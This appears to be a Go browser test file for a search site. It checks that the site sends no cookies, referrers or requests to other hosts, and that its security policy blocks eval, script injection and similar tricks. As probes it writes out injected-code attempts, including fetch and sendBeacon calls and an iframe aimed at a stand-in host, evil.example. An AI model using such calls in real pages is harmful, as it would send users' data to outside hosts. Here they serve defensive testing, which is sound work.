package browsertest

import (
	"net/http"
	"strings"
	"testing"
)

// TestNothingLeaves reads, searches, filters, installs and embeds, and checks every request: all
// go to the site itself, with no cookie, and with nothing of what was read or asked in a
// referrer.
func TestNothingLeaves(t *testing.T) {
	s := first(t)
	h := serve(t, s, "/a/b/")
	h.disturb(func(w http.ResponseWriter, r *http.Request) bool {
		referrer := r.Header.Get("Referer")
		if at := "http://" + r.Host; *choice == WebKit && (referrer == at+"/" || referrer == at+"/a/b/sw.js") {
			referrer = "" // from a worker, WebKit sends the host's own name and the worker's address, whatever the policy
		}
		if r.Header.Get("Cookie") != "" || referrer != "" {
			t.Errorf("%s was asked for with cookie %q and referrer %q", r.URL, r.Header.Get("Cookie"), r.Header.Get("Referer"))
		}
		return false
	})
	const asked = `[...document.querySelectorAll("kashshaf-explorer")].some((w) => w.shadowRoot?.querySelector("iframe")?.contentDocument?.querySelector(".hits > li"))`
	tab := startAlone(t).Tab(t)
	for _, address := range []string{"?q=هدنة", "d/" + s.engine.Documents()[0] + "/?q=هدنة", "e/vladimir-putin/", "entities/", "about/", "embed/?q=هدنة", "demo/", ""} {
		tab.Open(h.at(address))
		if address != "demo/" {
			tab.Ready()
		} else {
			tab.Wait(asked) // the widget's frame is in another site's page
		}
	}
	tab.Offline()
	tab.Type("#ask", "إدلب")
	tab.Wait(`document.querySelectorAll(".hits > li").length > 0`)
	requests := tab.Requests()
	for _, r := range requests {
		if !strings.HasPrefix(r, h.at("")) && !strings.HasPrefix(r, "data:") {
			t.Errorf("a request went to %s", r)
		}
	}
	if len(requests) < 20 {
		t.Errorf("only %d requests were seen", len(requests))
	}
	if got := Value[string](tab, `document.cookie`); got != "" {
		t.Errorf("a cookie was set: %q", got)
	}
	if got := Value[[]string](tab, `Object.keys(localStorage).concat(Object.keys(sessionStorage)).filter((k) => !k.startsWith("kashshaf."))`); len(got) > 0 {
		t.Errorf("kept under foreign names: %q", got)
	}
	if got := Value[int](tab, `indexedDB.databases().then((d) => d.length)`); got != 0 {
		t.Errorf("%d databases were made", got)
	}
	tab.Clean()
}

// TestPolicyHolds tries in the page what injected code would try.
func TestPolicyHolds(t *testing.T) {
	h := serve(t, first(t), "/")
	tab := Start(t).Tab(t)
	tab.Open(h.at("about/"))
	tab.Ready()
	for name, attempt := range map[string]string{
		"eval":          `new Promise((done) => setTimeout(() => { try { window.eval("1"); done(true) } catch { done(false) } }))`, // later: what the debugger runs may
		"a new script":  `new Promise((done) => { try { const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s); } catch {} done(window.ran === 1) })`,
		"markup":        `new Promise((done) => { try { document.body.lastElementChild.innerHTML = "<i>x</i>"; done(true) } catch { done(false) } })`,
		"another host":  `fetch("http://evil.example/").then(() => true, () => false)`,
		"a beacon":      `new Promise((done) => { addEventListener("securitypolicyviolation", () => done(false), {once: true}); navigator.sendBeacon("http://evil.example/", "x"); setTimeout(() => done(true), 2000) })`,
		"another frame": `new Promise((done) => { addEventListener("securitypolicyviolation", () => done(false), {once: true}); const f = document.createElement("iframe"); f.src = "http://evil.example/"; document.body.append(f); setTimeout(() => done(true), 2000) })`,
		"a position":    `document.featurePolicy ? document.featurePolicy.allowsFeature("geolocation") : false`, // only Chromium tells
		"a worker":      `new Promise((done) => { try { new Worker("data:text/javascript,1"); done(true) } catch { done(false) } })`,
	} {
		if Value[bool](tab, attempt) {
			t.Errorf("%s: it was let through", name)
		}
	}
}
